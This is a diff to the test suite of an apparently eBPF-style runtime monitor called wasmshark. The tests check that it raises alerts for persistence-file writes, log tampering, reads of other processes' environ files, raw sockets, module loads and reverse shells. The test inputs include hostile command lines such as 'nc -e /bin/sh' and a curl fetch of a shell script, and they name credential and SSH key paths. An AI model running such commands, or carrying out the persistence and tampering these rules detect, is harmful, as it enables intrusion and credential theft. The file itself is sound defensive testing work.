@@ -8,7 +8,7 @@ import * as path from 'path';
 import { AlertBook, type Alert, type Finding } from '../src/alerts';
 import fc from 'fast-check';
 import { ConsoleRenderer, escapeText } from '../src/console';
-import type { AnonSyscallEvent, ConnectEvent, ExecEvent, FileInfo, KernelEvent, MmapEvent, MprotectEvent, OpenEvent, RuntimeEvent, TaskInfo } from '../src/events';
+import type { AnonSyscallEvent, ConnectEvent, ExecEvent, FileInfo, KernelEvent, MmapEvent, MprotectEvent, OpenEvent, PathEvent, RuntimeEvent, SyscallEvent, TaskInfo } from '../src/events';
 import { checkOutputPath, reportAlert, writeReport, type Report } from '../src/report';
 import { DEFAULT_RULES, loadRules, RuleSet, type RuleContext } from '../src/rules';
 import { globToRegExp } from '../src/rules/config';
@@ -277,7 +277,8 @@ describe('files the kernel saw opened', () => {
     expect(judged(open({ file: file('/root/.aws/credentials') }))).toEqual(['HIGH file.sensitive Sensitive file opened: /root/.aws/credentials']);
     const [ssh] = rules.evaluate(open({ file: file('/home/ann/.ssh/id_ed25519'), fd: 7 }), ctx);
     expect(ssh).toMatchObject({ ssh: true, key: '/home/ann/.ssh/id_ed25519', evidence: 'path=/home/ann/.ssh/id_ed25519 fd=7 read syscall=openat pid=100 comm=wasmtime' });
-    expect(judged(open({ file: file('/etc/shadow'), write: true }))).toEqual(['HIGH file.sensitive Sensitive file opened: /etc/shadow']);
+    // written, /etc/shadow is an account file changed: the persistence rule replaces the read one
+    expect(judged(open({ file: file('/etc/shadow'), write: true }))).toEqual(['CRITICAL persistence.accounts Account or privilege file written: /etc/shadow']);
   });
 
   it('a path too long for the record keeps its tail: the anywhere-globs still match it', () => {
@@ -323,7 +324,7 @@ describe('alert book', () => {
 
 describe('monitor.blinded', () => {
   const drops = (mmap: number, stash = 0) => ({
-    byKind: { mmap, mprotect: 0, exec: 2, connect: 0, memfd: 0, fork: 0, exit: 0, 'anon-syscall': 0, syscall: 0, open: 0 },
+    byKind: { mmap, mprotect: 0, exec: 2, connect: 0, memfd: 0, fork: 0, exit: 0, 'anon-syscall': 0, syscall: 0, open: 0, path: 0 },
     stash,
     userspace: 0,
     total: mmap + 2 + stash,
@@ -551,5 +552,103 @@ describe('console escaping', () => {
 
   it('cuts long text with a marker', () => {
     expect(escapeText('x'.repeat(1000), 10)).toBe('xxxxxxxxxx…[+990 chars]');
+  });
+});
+
+describe('persistence, tampering and the rules Falco users expect', () => {
+  const pathEvent = (over: Partial<PathEvent>): PathEvent => ({
+    ...task, kind: 'path', syscall: 'rename', op: 'rename', path: '', name: '', source: '', ...over,
+  });
+  const judged = (e: RuntimeEvent, c: RuleContext = ctx) => rules.evaluate(e, c).map((f) => `${f.level} ${f.rule}`);
+  const write = (p: string, over: Partial<OpenEvent> = {}) => open({ write: true, flags: 1, file: file(p), ...over });
+
+  it('a write to a persistence file is judged by class and level, and replaces "sensitive file opened"', () => {
+    expect(judged(write('/home/u/.ssh/authorized_keys'))).toEqual(['CRITICAL persistence.remote-access']);
+    expect(judged(write('/etc/ld.so.preload'))).toEqual(['CRITICAL persistence.preload']);
+    expect(judged(write('/etc/shadow'))).toEqual(['CRITICAL persistence.accounts']);
+    expect(judged(write('/etc/sudoers.d/99-evil'))).toEqual(['CRITICAL persistence.accounts']);
+    expect(judged(write('/etc/cron.d/job'))).toEqual(['HIGH persistence.scheduled']);
+    expect(judged(write('/home/u/.config/systemd/user/x.service'))).toEqual(['HIGH persistence.scheduled']);
+    expect(judged(write('/home/u/.bashrc'))).toEqual(['HIGH persistence.shell-startup']);
+    expect(judged(write('/etc/profile.d/evil.sh'))).toEqual(['HIGH persistence.shell-startup']);
+    expect(judged(write('/usr/local/bin/kworker'))).toEqual(['HIGH persistence.binaries']);
+    // reading them is not a write; /etc/shadow read stays the secret read it is
+    expect(judged(open({ file: file('/home/u/.bashrc') }))).toEqual([]);
+    expect(judged(open({ file: file('/etc/shadow') }))).toEqual(['HIGH file.sensitive']);
+  });
+
+  it('says when io_uring made the open', () => {
+    const [f] = rules.evaluate(write('/root/.ssh/authorized_keys', { uring: true }), ctx);
+    expect(f.title).toBe('SSH access file written: /root/.ssh/authorized_keys (through io_uring)');
+    expect(f.evidence).toBe('path=/root/.ssh/authorized_keys fd=3 write syscall=openat via=io_uring pid=100 comm=wasmtime');
+    const [s] = rules.evaluate(open({ file: file('/etc/shadow'), uring: true }), ctx);
+    expect(s.title).toBe('Sensitive file opened through io_uring: /etc/shadow');
+  });
+
+  it('a rename, link or symlink onto a persistence file, a wiped log, a link to a secret', () => {
+    expect(judged(pathEvent({ path: '/etc/systemd/system/x.service', source: '/tmp/x' }))).toEqual(['HIGH persistence.scheduled']);
+    expect(judged(pathEvent({ syscall: 'linkat', op: 'link', path: '/etc/cron.d/x', source: '/tmp/x' }))).toEqual(['HIGH persistence.scheduled']);
+    expect(judged(pathEvent({ syscall: 'truncate', op: 'truncate', path: '/etc/passwd' }))).toEqual(['CRITICAL persistence.accounts']);
+    expect(judged(pathEvent({ syscall: 'unlink', op: 'unlink', path: '/var/log/wtmp' }))).toEqual(['HIGH tamper.log']);
+    expect(judged(pathEvent({ syscall: 'ftruncate', op: 'truncate', path: '/home/u/.bash_history' }))).toEqual(['HIGH tamper.log']);
+    expect(judged(pathEvent({ syscall: 'symlink', op: 'symlink', path: '/tmp/s', source: '/etc/shadow' }))).toEqual(['HIGH file.link-sensitive']);
+    expect(judged(pathEvent({ syscall: 'link', op: 'link', path: '/tmp/h', source: '/etc/sudoers' }))).toEqual(['HIGH file.link-sensitive']);
+    // removing a persistence file, a rename inside /tmp, a symlink to an ordinary file: nothing
+    expect(judged(pathEvent({ syscall: 'unlink', op: 'unlink', path: '/etc/cron.d/x' }))).toEqual([]);
+    expect(judged(pathEvent({ path: '/tmp/b', source: '/tmp/a' }))).toEqual([]);
+    expect(judged(pathEvent({ syscall: 'symlink', op: 'symlink', path: '/tmp/s', source: '/etc/hostname' }))).toEqual([]);
+    // a name the decoder could not join (unknown directory) is not judged by the caller's relative string
+    expect(judged(pathEvent({ path: '', name: '.bashrc' }))).toEqual([]);
+  });
+
+  it("another process's /proc/PID/environ is HIGH; its own is not", () => {
+    const environ = (p: string) => open({ file: file(p, { magic: PROCFS }) });
+    expect(judged(environ('/proc/4242/environ'))).toEqual(['HIGH credentials.proc-environ']);
+    expect(judged(environ('/proc/4242/task/4243/environ'))).toEqual(['HIGH credentials.proc-environ']);
+    expect(judged(environ('/proc/100/environ'))).toEqual([]);
+    expect(judged(open({ file: file('/proc/4242/environ') }))).toEqual([]); // not procfs: a file named so
+  });
+
+  it('a shell on a socket is a reverse shell; network tools are named', () => {
+    expect(judged(exec({ stdioSocket: true }))).toEqual(['CRITICAL process.reverse-shell']);
+    expect(judged(exec({ image: '/usr/bin/python3', argv: ['python3'], stdioSocket: true }))).toEqual(['CRITICAL process.reverse-shell']);
+    expect(judged(exec({ image: '/usr/bin/id', argv: ['id'], stdioSocket: true }))).toEqual(['HIGH process.reverse-shell']);
+    expect(judged(exec({ image: '/usr/bin/curl', argv: ['curl', 'http://x/s.sh'] }))).toEqual(['HIGH process.network-tool']);
+    expect(judged(exec({ image: '/usr/bin/nc', argv: ['nc', '-e', '/bin/sh'] }))).toEqual(['HIGH process.network-tool']);
+    expect(judged(exec({}))).toEqual(['CRITICAL process.shell']);
+  });
+
+  const sys = (name: string, nr: number, args: number[], over: Partial<SyscallEvent> = {}): SyscallEvent => ({
+    ...task, kind: 'syscall', nr, name, args, compat: false, remoteAddr: 0, ...over,
+  });
+
+  it('packet and raw sockets, PTRACE_TRACEME, module loads', () => {
+    expect(judged(sys('socket', 41, [17, 3, 768]))).toEqual(['HIGH network.packet-socket']);
+    expect(judged(sys('socket', 41, [2, 3, 1]))).toEqual(['HIGH network.raw-socket']);
+    expect(rules.evaluate(sys('socket', 41, [2, 3, 0], { uring: true }), ctx)[0].evidence).toMatch(/^syscall=socket family=2 type=SOCK_RAW via=io_uring /);
+    expect(judged(sys('ptrace', 101, [0, 0, 0]))).toEqual(['HIGH syscall.ptrace']);
+    expect(judged(sys('init_module', 175, [0, 0, 0]))).toEqual(['CRITICAL syscall.init_module']);
+  });
+
+  it("a runtime's own io_uring is INFO; any other program's keeps its level", () => {
+    const setup = sys('io_uring_setup', 425, [8, 0, 0]);
+    const node = { name: 'node', engine: 'V8', jit: 'rwx-mprotect', modules: [], embedder: null } as unknown as ReturnType<RuleContext['runtime']>;
+    expect(judged(setup, { ...ctx, runtime: () => node })).toEqual(['INFO syscall.io_uring-runtime']);
+    expect(judged(setup)).toEqual(['MEDIUM syscall.io_uring_setup']);
+  });
+
+  it('rules files replace a persistence class and reject unknown ones', () => {
+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'wasmshark-rules-'));
+    const f = path.join(dir, 'r.json');
+    fs.writeFileSync(f, JSON.stringify({ persistence: { scheduled: ['/opt/jobs/**'] }, logFiles: ['/srv/log/**'] }));
+    const custom = new RuleSet(loadRules(f));
+    const j = (e: RuntimeEvent) => custom.evaluate(e, ctx).map((x) => x.rule);
+    expect(j(write('/opt/jobs/a'))).toEqual(['persistence.scheduled']);
+    expect(j(write('/etc/cron.d/a'))).toEqual([]);
+    expect(j(write('/root/.ssh/authorized_keys'))).toEqual(['persistence.remote-access']); // other classes keep their defaults
+    expect(j(pathEvent({ syscall: 'unlink', op: 'unlink', path: '/srv/log/a' }))).toEqual(['tamper.log']);
+    fs.writeFileSync(f, JSON.stringify({ persistence: { boot: ['/x'] } }));
+    expect(() => loadRules(f)).toThrow(`invalid rules file ${f}: unknown persistence class "boot" (known: remote-access, preload, accounts, scheduled, shell-startup, binaries)`);
+    fs.rmSync(dir, { recursive: true, force: true });
   });
 });
